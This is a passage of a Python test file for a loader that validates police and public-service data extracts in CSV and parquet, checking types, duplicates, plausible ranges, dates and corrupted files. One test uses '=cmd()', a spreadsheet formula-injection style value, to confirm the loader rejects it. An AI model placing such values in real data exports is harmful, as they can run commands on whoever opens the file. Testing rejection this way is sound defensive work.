    assert loaded["collision_id"].tolist() == ["101", "102"]
    assert loaded["collision_date"].tolist() == [
        pd.Timestamp("2016-04-01"),
        pd.Timestamp("2016-04-02"),
    ]


def test_parquet_fractions_and_booleans_in_text_columns_are_wrong_type(tmp_path):
    frame = pd.DataFrame({"collision_id": [1.0, 2.5], "collision_date": pd.to_datetime(["2016-04-01"] * 2),
                          "district": [True, False]})  # fmt: skip
    frame.to_parquet(tmp_path / "collisions.parquet")
    message = load_error(tmp_path, "collisions")
    assert "column 'collision_id': 1 row is not text" in message and "row 2: 2.5" in message
    assert "column 'district': 2 rows are not text" in message and "row 1: True" in message


def test_load_report_describes_the_files_as_they_are_not_as_they_were(tmp_path):
    """A correction keeping the file's size and modification time still shows in the report."""
    path = write_csv(tmp_path, "collisions")
    load_extracts(tmp_path)
    assert loading.load_report(tmp_path)["errors"] == []
    st = path.stat()
    path.write_text(path.read_text().replace("Maldon", "Gotham"))
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert path.stat().st_size == st.st_size
    assert loading.load_report(tmp_path)["errors"] == [
        "collisions.csv: column 'district': 1 row is not a district of "
        "profiles/demo/districts.csv (nor 'Unassigned') — e.g. row 3: 'Gotham'"
    ]


def test_load_report_of_a_bad_folder_lists_the_errors_without_raising(tmp_path):
    rows = collisions_rows()
    rows[0]["district"] = "Gotham"
    write_csv(tmp_path, "collisions", rows=rows)
    as_dict = loading.load_report(tmp_path)
    assert as_dict["errors"] == [
        "collisions.csv: column 'district': 1 row is not a district of "
        "profiles/demo/districts.csv (nor 'Unassigned') — e.g. row 2: 'Gotham'"
    ]


def test_a_large_file_of_distinct_ids_loads_like_a_small_one(tmp_path):
    n = 60_000  # above the size where ids are converted without dictionary encoding
    ids = [f"K{i}" for i in range(n)]
    frame = pd.DataFrame({"collision_id": ids, "collision_date": pd.Timestamp("2016-04-01"),
                          "district": ["Maldon", "", "Harlow"] * (n // 3)})  # fmt: skip
    frame.to_parquet(tmp_path / "collisions.parquet")
    report = LoadReport()
    loaded = load_extracts(tmp_path, report=report)["collisions"]
    assert loaded["collision_id"].tolist() == ids
    assert loaded["district"].value_counts().loc[lambda c: c > 0].to_dict() == {
        "Maldon": n // 3,
        "Unassigned": n // 3,
        "Harlow": n // 3,
    }
    assert report.extracts["collisions"].unassigned_mapped == n // 3
    ids[-1] = "K7"
    frame.assign(collision_id=ids).to_parquet(tmp_path / "collisions.parquet")
    message = load_error(tmp_path, "collisions")
    assert "column 'collision_id': 2 rows repeat a value that must be unique" in message
    assert f"row 8: 'K7', row {n}: 'K7'" in message


def test_row_numbers_count_skipped_blank_lines(tmp_path):
    text = "collision_id,collision_date,district\nK1,2016-04-01,Maldon\n\nK2,2016-04-02,Gotham\n"
    write_csv(tmp_path, "collisions", text=text)
    assert "row 4: 'Gotham'" in load_error(tmp_path, "collisions")


def test_gzipped_csv_is_read(tmp_path):
    import gzip

    text = write_csv(tmp_path, "collisions").read_bytes()
    (tmp_path / "collisions.csv").unlink()
    (tmp_path / "collisions.csv.gz").write_bytes(gzip.compress(text))
    assert load_extract(tmp_path, "collisions")["collision_id"].tolist() == ["K1", "K2"]


# --------------------------------------------------------------------------- parquet fast paths
def _crimes_frame() -> pd.DataFrame:
    """The CSV fixture's crimes, typed as a force's own parquet writer would type them."""
    frame = pd.DataFrame(crimes_rows())
    for c in ("recorded_date", "outcome_date"):
        frame[c] = pd.to_datetime(frame[c].replace("", None))
    for c in ("victim_based", "domestic_abuse", "night_time_economy", "rural", "business",
              "class_a_supply", "evidence_led_prosecution"):  # fmt: skip
        frame[c] = frame[c] == "true"
    return frame


def test_category_columns_saved_as_pandas_categoricals_load_like_plain_text(tmp_path):
    """A parquet whose text columns are dictionaries (pandas categoricals) is checked on its
    distinct values: same frame as from plain text, and bad values reported row by row."""
    plain = _crimes_frame()
    (tmp_path / "a").mkdir()
    plain.to_parquet(tmp_path / "a" / "crimes.parquet")
    as_categories = plain.copy()
    for c in ("district", "offence_group", "da_risk_level", "outcome_type"):
        values = as_categories[c].replace("", None)
        # an unused category must not be taken for a value of the file
        as_categories[c] = pd.Categorical(values, categories=[*values.dropna().unique(), "Gotham"])
    (tmp_path / "b").mkdir()
    as_categories.to_parquet(tmp_path / "b" / "crimes.parquet")
    expected = load_extract(tmp_path / "a", "crimes")
    got = load_extract(tmp_path / "b", "crimes")
    pd.testing.assert_frame_equal(got, expected)
    assert got["district"].tolist() == ["Basildon", "Harlow", "Basildon", "Tendring"]

    bad = as_categories.copy()
    bad["district"] = pd.Categorical(["Gotham", "Harlow", None, "Gotham"])
    bad["offence_group"] = pd.Categorical(["Burglary", "=cmd()", "Drug offences", "Burglary"])
    bad.to_parquet(tmp_path / "b" / "crimes.parquet")
    message = load_error(tmp_path / "b", "crimes")
    assert "column 'district': 2 rows are not a district of" in message
    assert "row 1: 'Gotham'" in message and "row 4: 'Gotham'" in message
    assert "column 'offence_group': 1 row is not one of the allowed values" in message
    assert "row 2: '=cmd()'" in message

    bad = as_categories.copy()
    bad["district"] = pd.Categorical(["Harlow", None, "Harlow", "Unassigned"])
    bad.to_parquet(tmp_path / "b" / "crimes.parquet")
    report = LoadReport()
    frame = load_extracts(tmp_path / "b", ["crimes"], report)["crimes"]
    assert frame["district"].tolist() == ["Harlow", "Unassigned", "Harlow", "Unassigned"]
    assert report.extracts["crimes"].unassigned_mapped == 1
    assert report.extracts["crimes"].unassigned_in_file == 1


@pytest.mark.parametrize(
    ("ids", "repeated"),
    [
        (["C1", "C2", "C3", "C4"], []),  # ascending: no hashing needed
        (["C4", "C2", "C3", "C1"], []),
        (["C1", "C2", "C2", "C4"], [2, 3]),  # ascending but not strictly: hashed
        (["C3", "C1", "C2", "C3"], [1, 4]),
    ],
)
def test_duplicate_ids_in_parquet_whatever_their_order(tmp_path, ids, repeated):
    frame = _crimes_frame()
    frame["crime_id"] = ids
    frame.to_parquet(tmp_path / "crimes.parquet")
    if not repeated:
        assert load_extract(tmp_path, "crimes")["crime_id"].tolist() == ids
        return
    message = load_error(tmp_path, "crimes")
    assert "column 'crime_id': 2 rows repeat a value that must be unique (crime_id)" in message
    for r in repeated:
        assert f"row {r}: '{ids[r - 1]}'" in message


def test_integers_in_parquet_are_range_checked_and_keep_their_type(tmp_path):
    frame = pd.DataFrame({"crime_id": ["C1", "C1", "C2"], "offender_id": ["O1", "O2", "O1"],
                          "age_at_offence": np.array([15, 130, -1], dtype=np.int64)})  # fmt: skip
    frame.to_parquet(tmp_path / "crime_offenders.parquet")
    message = load_error(tmp_path, "crime_offenders")
    assert (
        "column 'age_at_offence': 1 row is below the minimum" in message and "row 3: -1" in message
    )
    assert (
        "column 'age_at_offence': 1 row is above the maximum" in message and "row 2: 130" in message
    )
    frame["age_at_offence"] = np.array([15, 30, 40], dtype=np.int32)
    frame.to_parquet(tmp_path / "crime_offenders.parquet")
    loaded = load_extract(tmp_path, "crime_offenders")
    assert loaded["age_at_offence"].dtype == "int64"
    assert loaded["age_at_offence"].tolist() == [15, 30, 40]


def test_duplicate_pairs_in_parquet(tmp_path):
    frame = pd.DataFrame({"crime_id": ["C1", "C2", "C1", "C1"], "offender_id": ["O1", "O1", "O2", "O1"],
                          "age_at_offence": [15, 16, 17, 15]})  # fmt: skip
    frame.to_parquet(tmp_path / "crime_offenders.parquet")
    message = load_error(tmp_path, "crime_offenders")
    assert "2 rows repeat a value that must be unique (crime_id + offender_id)" in message
    assert "row 1: 'C1' / 'O1'" in message and "row 4: 'C1' / 'O1'" in message


# --------------------------------------------------------------------------- plausible ranges
def fifty_emergency_incidents(late_seconds: int) -> list[dict]:
    """Fifty attended grade 1 incidents in April 2016, each arriving ``late_seconds`` after opening."""
    base = incidents_rows()[0]
    opened = pd.Timestamp("2016-04-01 10:00:00")
    rows = []
    for i in range(50):
        at = opened + pd.Timedelta(hours=i)
        rows.append({**base, "incident_id": f"L{i:02d}", "opened_at": str(at),
                     "arrived_at": str(at + pd.Timedelta(seconds=late_seconds)), "grade": "1"})  # fmt: skip
    return incidents_rows() + rows


def test_incidents_arriving_a_billion_seconds_late_are_refused(tmp_path):
    write_csv(tmp_path, "incidents", rows=fifty_emergency_incidents(10**9))
    message = load_error(tmp_path, "incidents")
    assert "column 'arrived_at': 50 rows are after the extract's own date" in message
    assert "e.g. row 5: '2047-12-09 11:46:40'" in message  # 10:00 + 31.7 years, as in the file


def test_an_emergency_arrival_more_than_a_day_late_is_refused(tmp_path):
    """Late but not in the future: the 24-hour bound of grade 1 catches it on its own."""
    write_csv(tmp_path, "incidents", rows=fifty_emergency_incidents(10**6))  # 11.6 days
    message = load_error(tmp_path, "incidents")
    assert (
        "column 'arrived_at': 50 rows are more than 24 hours after opened_at (where grade is 1)"
        " — e.g. row 5: opened_at=2016-04-01 10:00:00, arrived_at=2016-04-12 23:46:40, grade=1"
    ) in message
    assert "after the extract's own date" not in message


@pytest.mark.parametrize(("grade", "loads"), [("1", False), ("2", True), ("3", True)])
def test_the_delay_bound_depends_on_the_grade(tmp_path, grade, loads):
    rows = incidents_rows()
    rows[0].update(grade=grade, arrived_at="2016-04-02 12:00:00")  # 26 hours after opening
    write_csv(tmp_path, "incidents", rows=rows)
    if loads:
        assert len(load_extract(tmp_path, "incidents")) == 3
    else:
        assert "more than 24 hours after opened_at" in load_error(tmp_path, "incidents")


def calls_rows(**first) -> list[dict]:
    base = {"line": "non_emergency", "calls_offered": "120", "calls_answered": "110",
            "answered_within_standard": "90", "total_wait_seconds": "990"}  # fmt: skip
    return [
        {**base, "interval_start": "2016-04-01 00:00:00", **first},
        {**base, "interval_start": "2016-04-02 00:00:00"},
    ]


def test_one_call_waiting_a_million_seconds_is_refused(tmp_path):
    write_csv(tmp_path, "calls", rows=calls_rows(calls_offered="1", calls_answered="1",
                                                 answered_within_standard="0",
                                                 total_wait_seconds="1352801"))  # fmt: skip
    message = load_error(tmp_path, "calls")
    assert (
        "column 'total_wait_seconds': 1 row is more than 3,600 × calls_answered"
        " — e.g. row 2: calls_answered=1, total_wait_seconds=1352801.0"
    ) in message


def test_an_average_wait_under_an_hour_loads(tmp_path):
    rows = calls_rows(calls_answered="1", answered_within_standard="0", total_wait_seconds="3599")
    write_csv(tmp_path, "calls", rows=rows)
    assert load_extract(tmp_path, "calls")["total_wait_seconds"].tolist() == [3599.0, 990.0]


def test_counts_have_sane_maxima(tmp_path):
    write_csv(tmp_path, "calls", rows=calls_rows(calls_offered="999999999"))
    assert "column 'calls_offered': 1 row is above the maximum 10,000,000" in load_error(
        tmp_path, "calls"
    )
    rows = workforce_rows()
    rows[0]["days_lost"] = "5000"  # 100.5 FTE cannot lose 5,000 days in a month
    write_csv(tmp_path, "workforce", rows=rows)
    assert "column 'days_lost': 1 row is more than 31 × strength_fte" in load_error(
        tmp_path, "workforce"
    )


@pytest.mark.parametrize(
    ("value", "what"),
    [
        ("2099-06-01", "are after the extract's own date (the file was last modified"),
        ("1900-01-01", "is before 2000-01-01 (the earliest date the contract accepts)"),
        ("2300-01-01", "are after the extract's own date"),
        ("0999-01-01", "is before 2000-01-01"),
    ],
)
def test_far_dates_in_csv_are_refused(tmp_path, value, what):
    rows = collisions_rows()
    rows[1]["collision_date"] = value
    write_csv(tmp_path, "collisions", rows=rows)
    message = load_error(tmp_path, "collisions")
    assert f"column 'collision_date': 1 row {what}".replace(" row are", " row is") in message
    assert f"row 3: '{value}'" in message


@pytest.mark.parametrize("value", ["2099-06-01", "1900-01-01", "2300-01-01", "1200-05-05"])
@pytest.mark.parametrize("arrow_type", [pa.timestamp("us"), pa.timestamp("ms"), pa.date32()])
def test_far_dates_in_parquet_are_refused_with_a_message_not_a_traceback(
    tmp_path, value, arrow_type
):
    day = dt.date.fromisoformat(value)
    dates = [dt.date(2016, 4, 1), day]
    if pa.types.is_timestamp(arrow_type):
        dates = [dt.datetime.combine(d, dt.time()) for d in dates]
    table = pa.table({"collision_id": ["K1", "K2"], "collision_date": pa.array(dates, arrow_type),
                      "district": ["Basildon", "Maldon"]})  # fmt: skip
    pq.write_table(table, tmp_path / "collisions.parquet")
    message = load_error(tmp_path, "collisions")
    what = "is before 2000-01-01" if day.year < 2000 else "is after the extract's own date"
    assert f"column 'collision_date': 1 row {what}" in message
    assert f"row 2: {value} 00:00:00" in message


@pytest.mark.parametrize("kind", ["datetime", "month"])
def test_far_dates_in_datetime_and_month_columns_are_refused(tmp_path, kind):
    if kind == "datetime":
        rows = incidents_rows()
        rows[1]["opened_at"] = "2300-04-02 23:59:59"
        write_csv(tmp_path, "incidents", rows=rows)
        assert "column 'opened_at': 1 row is after the extract's own date" in load_error(
            tmp_path, "incidents"
        )
    else:
        rows = workforce_rows()
        rows[1]["month"] = "2300-04"
        rows[2]["month"] = "1999-12"
        write_csv(tmp_path, "workforce", rows=rows)
        message = load_error(tmp_path, "workforce")
        assert "column 'month': 1 row is after the extract's own date" in message
        assert (
            "column 'month': 1 row is before 2000-01-01 (the earliest date the contract accepts)"
            " — e.g. row 4: '1999-12'"
        ) in message


def test_a_date_after_the_file_was_written_is_refused(tmp_path):
    """The extract's own date is the file's modification time: a September record in a file
    written in June cannot be right, though September 2016 is long past."""
    rows = collisions_rows()
    rows[1]["collision_date"] = "2016-09-01"
    path = write_csv(tmp_path, "collisions", rows=rows)
    written = dt.datetime(2016, 6, 30, 18, 0).timestamp()
    os.utime(path, (written, written))
    message = load_error(tmp_path, "collisions")
    assert (
        "column 'collision_date': 1 row is after the extract's own date (the file was last "
        "modified 2016-06-30 18:00; a file cannot hold records from after it was written)"
        " — e.g. row 3: '2016-09-01'"
    ) in message
    rows[1]["collision_date"] = "2016-07-01"  # within the day allowed for time zones
    write_csv(tmp_path, "collisions", rows=rows)
    os.utime(path, (written, written))
    assert len(load_extract(tmp_path, "collisions")) == 2


def test_a_file_dated_in_the_future_is_checked_against_today(tmp_path):
    rows = collisions_rows()
    tomorrow_but_one = dt.date.today() + dt.timedelta(days=2)
    rows[1]["collision_date"] = tomorrow_but_one.isoformat()
    path = write_csv(tmp_path, "collisions", rows=rows)
    future = dt.datetime(2090, 1, 1).timestamp()
    os.utime(path, (future, future))
    message = load_error(tmp_path, "collisions")
    assert "1 row is after the extract's own date (today is" in message
    assert "the file's modification time 2090-01-01 is in the future" in message


def test_far_months_saved_as_pandas_periods_are_refused(tmp_path):
    months = pd.array([pd.Period(m, "M") for m in ("2016-04", "2300-01", "1990-01")])
    frame = pd.DataFrame({"month": months, "group": ["officer", "staff", "pcso"],
                          "strength_fte": [10.0, 20.0, 30.0], "days_lost": [1.0, 2.0, 3.0]})  # fmt: skip
    frame.to_parquet(tmp_path / "workforce.parquet")
    message = load_error(tmp_path, "workforce")
    assert "column 'month': 1 row is before 2000-01-01" in message and "row 3: 1990-01" in message
    assert "1 row is after the extract's own date" in message and "row 2: 2300-01" in message


def test_a_parquet_file_duckdb_cannot_read_is_a_message_naming_the_file_and_column(tmp_path):
    """A data page that is not what its footer says (bytes overwritten on a copy): DuckDB fails
    reading it; the error names the file and the column, never a traceback."""
    n = 5000
    frame = pd.DataFrame({"collision_id": [f"K{i}" for i in range(n)],
                          "collision_date": pd.Timestamp("2016-04-01"), "district": "Maldon"})  # fmt: skip
    path = tmp_path / "collisions.parquet"
    frame.to_parquet(path, compression=None)
    data = bytearray(path.read_bytes())
    data[200:2000] = b"\xff" * 1800  # inside the collision ids' data page
    path.write_bytes(bytes(data))
    message = load_error(tmp_path, "collisions")
    assert "collisions.parquet" in message and "column 'collision_id': cannot be read" in message
    assert str(tmp_path) not in message and "Traceback" not in message
